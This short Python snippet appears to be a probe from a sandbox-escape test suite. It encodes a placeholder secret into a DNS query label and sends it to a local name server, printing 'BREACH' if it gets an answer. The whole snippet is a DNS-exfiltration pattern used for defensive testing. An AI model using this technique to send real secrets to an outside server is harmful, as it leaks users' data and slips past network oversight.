# Carries a secret out in a question to a name server, and waits for its answer.
# class: network
# armed: breach

import socket, struct
name = b"".join(bytes([len(part)]) + part for part in (SECRET.encode(), b"example"))
question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">2H", 16, 1)
try:
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(1)
    client.sendto(question, ("127.0.0.1", UDP))
    print("BREACH" if client.recv(2000)[:2] == question[:2] else "other")
except OSError as problem:
    print(problem)
